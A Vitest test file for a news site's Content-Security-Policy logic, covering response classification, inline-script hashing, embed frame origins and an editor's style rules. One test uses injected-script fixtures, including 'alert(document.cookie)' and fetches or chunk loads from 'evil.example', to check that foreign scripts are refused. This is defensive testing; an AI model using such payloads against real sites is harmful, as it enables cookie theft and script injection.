import { createHash } from 'node:crypto';

import { afterEach, describe, expect, it, vi } from 'vitest';

import { contentSecurityPolicy } from '../lib/security/policy.js';
import { themeScript } from '../lib/security/theme-script.js';
import { classify, isEditorPage, policyForHtml } from './html-policy.js';

const sha = (text: string) => `'sha256-${createHash('sha256').update(text, 'utf8').digest('base64')}'`;

describe('classify', () => {
  it('buffers only HTML with a body; HEAD, 304 and other types are decided on their head alone', () => {
    expect(classify({ method: 'GET', status: 200, contentType: 'text/html; charset=utf-8' })).toBe('html');
    expect(classify({ method: 'GET', status: 404, contentType: 'TEXT/HTML' })).toBe('html');
    expect(classify({ method: 'HEAD', status: 200, contentType: 'text/html; charset=utf-8' })).toBe('html-head');
    expect(classify({ method: 'GET', status: 304, contentType: 'text/html' })).toBe('not-modified');
    expect(classify({ method: 'GET', status: 304, contentType: '' })).toBe('not-modified');
    for (const contentType of ['application/json', 'text/x-component', 'application/rss+xml', 'text/htmlx', ''])
      expect(classify({ method: 'GET', status: 200, contentType }), contentType).toBe('other');
  });

  it('gives an HTML file served as it is (public/, build assets) the base policy: it is a file, not a page', () => {
    for (const url of ['/images/a.html', '/js/x.html', '/_next/static/x.html'])
      expect(classify({ method: 'GET', url, status: 200, contentType: 'text/html' }), url).toBe('other');
    expect(classify({ method: 'GET', url: '/images-of-the-year', status: 200, contentType: 'text/html' })).toBe('html');
  });
});

describe('policyForHtml', () => {
  it('lists the hash of every script the browser runs, once, and none of data blocks or external scripts', () => {
    const theme = themeScript;
    const payload = 'self.__next_f.push([1,"Seoul ✓"])';
    const html = Buffer.from(
      `<html><head><script>${theme}</script><script src="/a.js"></script>` +
        '<script type="application/ld+json">{"@type":"NewsArticle"}</script></head>' +
        `<body><script id="_R_">${payload}</script><script>${theme}</script></body></html>`,
    );
    expect(policyForHtml(html, {})).toBe(contentSecurityPolicy([sha(theme), sha(payload)]));
    expect(policyForHtml(html, { https: true })).toBe(
      contentSecurityPolicy([sha(theme), sha(payload)], { https: true }),
    );
  });

  it('allows the frames of the embeds the document carries, and only on that document', () => {
    const html = Buffer.from(
      '<figure data-embed-origin="https://www.youtube-nocookie.com"><button>Load video</button></figure>',
    );
    expect(policyForHtml(html, {})).toBe(
      contentSecurityPolicy([], { frameOrigins: ['https://www.youtube-nocookie.com'] }),
    );
    expect(policyForHtml(html, {})).toContain('frame-src https://www.youtube-nocookie.com');
    expect(policyForHtml(Buffer.from('<figure><img src="/a.jpg" alt=""></figure>'), {})).not.toContain('frame-src');
  });

  it('leaves out an inline script of no shape the site emits: the browser then refuses it', () => {
    const payload = 'self.__next_f.push([1,"Seoul"])';
    const foreign = [
      'alert(document.cookie)',
      'self.__next_f.push([1,"x"]);alert(1)//)',
      'self.__next_f.push([1,fetch("//evil.example")])',
      `${themeScript};alert(1)`,
      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["//evil.example/x.js"]});',
    ];
    const html = Buffer.from(
      `<html><body><script>${payload}</script>${foreign.map((text) => `<script>${text}</script>`).join('')}</body></html>`,
    );
    expect(policyForHtml(html, {})).toBe(contentSecurityPolicy([sha(payload)]));
  });

  it('gives a document without inline scripts the policy without hashes', () => {
    expect(policyForHtml(Buffer.from('<p>Moved</p>'), {})).toBe(contentSecurityPolicy([]));
  });
});

describe('the newsroom editor in an operator build', () => {
  afterEach(() => vi.unstubAllEnvs());
  const styleSrc = (policy: string) => /(?:^|; )style-src ([^;]*)/.exec(policy)?.[1];

  it("lets Keystatic's own <style> elements style /keystatic, and nothing else", () => {
    vi.stubEnv('DATELINE_EDITOR', '1');
    expect(isEditorPage('/keystatic')).toBe(true);
    expect(isEditorPage('/keystatic/collection/articles/create')).toBe(true);
    expect(isEditorPage('/keystatics')).toBe(false);
    expect(isEditorPage('/world/keystatic')).toBe(false);
    expect(styleSrc(policyForHtml(Buffer.from('<p>x</p>'), { inlineStyles: true }))).toBe("'self' 'unsafe-inline'");
    expect(styleSrc(policyForHtml(Buffer.from('<p>x</p>'), {}))).toBe("'self'");
  });

  it('keeps style-src to this origin at /keystatic in a reader build (where it is a 404)', () => {
    vi.stubEnv('DATELINE_EDITOR', '');
    expect(isEditorPage('/keystatic')).toBe(false);
  });
});
